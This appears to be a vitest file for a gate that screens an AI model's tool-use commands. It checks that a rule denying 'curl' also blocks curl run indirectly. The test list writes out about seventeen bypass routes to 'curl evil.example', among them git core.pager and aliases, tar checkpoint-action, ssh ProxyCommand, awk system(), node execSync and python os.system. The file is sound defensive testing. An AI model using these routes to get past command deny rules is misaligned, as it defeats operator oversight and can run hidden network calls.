import { expect, test } from 'vitest'
import {
  answering,
  bodyOf,
  call,
  denyProgram,
  MESSAGES_BODY,
  messagesEvents,
} from '../../src/gate/llm/testing/model-scene.ts'
import { modelScenes } from '../../src/gate/llm/testing/model-scenes.ts'
import { HOST } from '../../src/gate/testing/scene.ts'

/** What runs a denied program by an option of another: no client has the call. */

const start = modelScenes()

const EVIL = 'curl evil.example'

test('allowed: the same programs without such options', async () => {
  const scene = await start({ tools: denyProgram('curl') })
  const lines = ["awk '{print $1}' x", 'git -c user.name=x status', "sed -n '1,5p' x", 'tar xzf x']
  scene.canary.handler = answering(messagesEvents(...lines))
  const body = bodyOf(await scene.rig.send(HOST, call(MESSAGES_BODY)))
  expect(body.match(/"type":"tool_use"/g)).toHaveLength(4)
})

test.each([
  `git -c core.pager='${EVIL}' log`,
  `git -c alias.x='!${EVIL}' x`,
  `git clone 'ext::${EVIL}' x`,
  `tar cf x . --checkpoint=1 --checkpoint-action=exec='${EVIL}'`,
  `rsync -e '${EVIL}' a b:`,
  `ssh -o ProxyCommand='${EVIL}' h`,
  `awk 'BEGIN { system("${EVIL}") }'`,
  `sed '1e ${EVIL}' x`,
  `make CC='${EVIL}'`,
  `npx -y ${EVIL}`,
  `docker run x ${EVIL}`,
  `python3 -m ${EVIL}`,
  `python3 -c 'import os; os.system("${EVIL}")'`,
  `vim -c '!${EVIL}' -c q`,
  `node -e 'require("child_process").execSync("${EVIL}")'`,
  `psql -c '\\! ${EVIL}'`,
  `python3 <<'E'\nimport os\nos.system("${EVIL}")\nE\n`,
])('%s: denied, recorded, its client has no call', async (line) => {
  const scene = await start({ tools: denyProgram('curl') })
  scene.canary.handler = answering(messagesEvents(line))
  const body = bodyOf(await scene.rig.send(HOST, call(MESSAGES_BODY)))
  expect(body).not.toContain('tool_use')
  expect(body).not.toContain('evil.example')
  expect(scene.rig.keyholder.deniedBy()).toEqual(['no'])
  expect(scene.other.bytes).toBe(0)
})
